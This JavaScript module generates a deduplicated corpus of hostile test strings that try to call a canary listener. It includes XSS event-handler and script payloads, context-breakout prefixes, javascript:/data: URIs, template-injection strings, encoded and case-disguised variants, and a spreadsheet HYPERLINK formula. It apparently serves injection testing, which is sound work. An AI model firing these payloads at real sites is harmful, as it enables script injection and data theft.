// SPDX-License-Identifier: EUPL-1.2
/**
 * Texts that would do something if they were drawn as anything but text: 1,296 different ones, made here. Each tries to call the canary
 * (`listen.mjs`) by a script (`js`) or by an address (`url`).
 */

/** Out of whatever a text might have been put into. */
const OUT_OF = ["", '">', "'>", "</textarea>", "</title>", "</style>", "</script>", "-->"];

const HANDLERS = [
  ["img src=x", "onerror"], ["svg", "onload"], ["body", "onload"], ["video src=x", "onerror"], ["audio src=x", "onerror"], ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"], ["textarea autofocus", "onfocus"], ["button autofocus", "onfocus"], ["details open", "ontoggle"], ["marquee", "onstart"],
  ["iframe", "onload"], ["object data=x", "onerror"], ["embed src=x", "onload"], ["link rel=stylesheet href=x", "onerror"], ["script src=x", "onerror"],
  ["div style=animation:x tabindex=0", "onanimationstart"], ["a href=# autofocus tabindex=0", "onfocus"], ["p contenteditable autofocus", "onfocus"],
  ["form", "onformdata"], ["dialog open", "onclose"], ["math tabindex=0 autofocus", "onfocus"], ["style", "onload"], ["frameset", "onload"],
];

const WITHOUT_HANDLER = (js, url) => [
  `<script>${js}</script>`, `<script src="${url}"></script>`, `<svg><script>${js}</script></svg>`, `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
  `<svg><image href="${url}"/></svg>`, `<svg><use href="${url}#x"/></svg>`, `<svg><a xlink:href="javascript:${js}"><text>x</text></a></svg>`,
  `<img src="${url}">`, `<img srcset="${url} 1x">`, `<picture><source srcset="${url}"><img></picture>`, `<iframe src="${url}"></iframe>`,
  `<iframe srcdoc="<script>${js}</script>"></iframe>`, `<object data="${url}"></object>`, `<embed src="${url}">`, `<video poster="${url}"></video>`,
  `<link rel=stylesheet href="${url}">`, `<link rel=preload as=image href="${url}">`, `<link rel=prefetch href="${url}">`, `<style>@import '${url}';</style>`,
  `<style>*{background:url(${url})}</style>`, `<div style="background:url(${url})">x</div>`, `<table background="${url}"><td>x</table>`,
  `<meta http-equiv=refresh content="0;url=${url}">`, `<base href="${url}/">`, `<form action="${url}"><input type=submit autofocus></form>`,
  `<a href="javascript:${js}">x</a>`, `<a href="${url}" ping="${url}">x</a>`, `<math><maction actiontype=statusline xlink:href="javascript:${js}">x</maction></math>`,
  `<template><script>${js}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
];

/** In no HTML at all, for what else might look at a text. */
const OTHER = (js, url) => [
  `javascript:${js}`, `data:text/html,<script>${js}</script>`, `vbscript:${js}`, `[x](javascript:${js})`, `![x](${url})`, `<${url}>`, `{{constructor.constructor('${js}')()}}`,
  `\${${js}}`, `<%= ${js} %>`, `#{${js}}`, `{ $brand }{ -term }{ NUMBER(1) }`, `\\u003cimg src=x onerror=${js}\\u003e`, `&lt;img src=x onerror=${js}&gt;`,
  `&#x3C;img src=x onerror=${js}&#x3E;`, `%3Cimg%20src%3Dx%20onerror%3D${js}%3E`, `\u202eCRIPT<\u202d script>${js}</script>`, `\u2028<img src=x onerror=${js}>`,
  `=HYPERLINK("${url}")`, `BEGIN:VCALENDAR\\nATTACH:${url}`, `"};${js};//`, `';${js};'`, `\`;${js};\``, `*/${js}/*`, `<!--#include virtual="${url}"-->`,
];

/** The same with another look: mixed case, and slashes where blanks are. */
const disguised = (text) => text.replaceAll(/<(\/?)([a-z]+)/g, (_, slash, name) => `<${slash}${[...name].map((letter, index) => (index % 2 === 0 ? letter.toUpperCase() : letter)).join("")}`).replaceAll(/ (on[a-z]+=)/g, "/$1");

/** All of them, none twice. */
export function hostileTexts({ js, url }) {
  const short = js.split(";")[0];
  const elements = [...HANDLERS.flatMap(([tag, handler]) => [`<${tag} ${handler}="${js}">`, `<${tag} ${handler}=${short}>`]), ...WITHOUT_HANDLER(js, url)];
  const all = OUT_OF.flatMap((out) => elements.flatMap((element) => [`${out}${element}`, `${out}${disguised(element)}`]));
  return [...new Set([...all, ...OTHER(js, url), ...OTHER(js, url).map((text) => `">${text}`)])];
}
